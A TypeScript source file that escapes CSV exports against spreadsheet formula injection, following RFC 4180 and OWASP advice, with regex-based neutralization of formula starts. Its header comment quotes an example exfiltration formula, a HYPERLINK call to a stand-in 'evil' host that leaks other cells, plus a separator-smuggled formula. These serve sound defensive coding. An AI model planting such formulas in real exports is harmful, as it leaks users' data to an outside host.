/**
 * CSV for people who open it in a spreadsheet: RFC 4180 records, plus the OWASP "CSV Injection"
 * defence, because the cells carry text any client chose (a username tried at login, a user
 * agent).
 *
 * Threat: a cell starting with `=`, `+`, `-` or `@` is read as a formula by Excel, LibreOffice
 * and Google Sheets; `=HYPERLINK("http://evil/?"&A1, "Click")` leaks other cells, DDE formulas
 * can run programs. A leading TAB or CR can hide such a start from a naive check. Any such cell
 * gets a leading `'`, which the spreadsheet reads as "text" (shown, the formula inert).
 *
 * Quoting is not enough on its own: Excel in a locale whose list separator is `;` (most of
 * Europe) splits a comma-separated file at every `;`, quotes or not, and a tab-separated import
 * splits at every TAB; each line end starts a row. So `x;=2+5;y` in one quoted cell still became
 * the formula cell `=2+5` there. OWASP: "take care of the field separator", so a `'` also goes
 * after every `,`, `;`, TAB, CR or LF that a formula start follows (spaces and quotes between
 * them included), and every text cell is quoted. Numbers are written bare; a negative one would
 * be neutralized like text: the exports here hold positive ids only.
 */

export type CsvValue = string | number | null | undefined

/** A cell start a spreadsheet may run: OWASP's characters, also behind spaces or quotes. */
const FORMULA_START = /^(?:[\t\r]|[ "]*[=+\-@])/
/** A separator some reader splits at, where a formula start follows: `'` goes after it. */
const FORMULA_AFTER_SEPARATOR = /([,;\t\r\n])(?=[ "]*[=+\-@])/g

/** `text` with a `'` wherever a spreadsheet, splitting at any separator, would start a formula. */
export function neutralizeFormula(text: string): string {
  const inner = text.replace(FORMULA_AFTER_SEPARATOR, "$1'")
  return FORMULA_START.test(inner) ? `'${inner}` : inner
}

/**
 * One field: null and undefined are empty; numbers bare; text neutralized and always quoted
 * (RFC 4180 section 2.7: a quote inside a quoted field is written twice).
 */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return ''
  if (typeof value === 'number' && value >= 0) return String(value)
  return `"${neutralizeFormula(String(value)).replaceAll('"', '""')}"`
}

/** One record, CRLF-terminated (RFC 4180 section 2.1). */
export function csvRecord(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`
}

/** The UTF-8 byte order mark: Excel reads a CSV file as UTF-8 only when it starts with one. */
export const UTF8_BOM = '\ufeff'
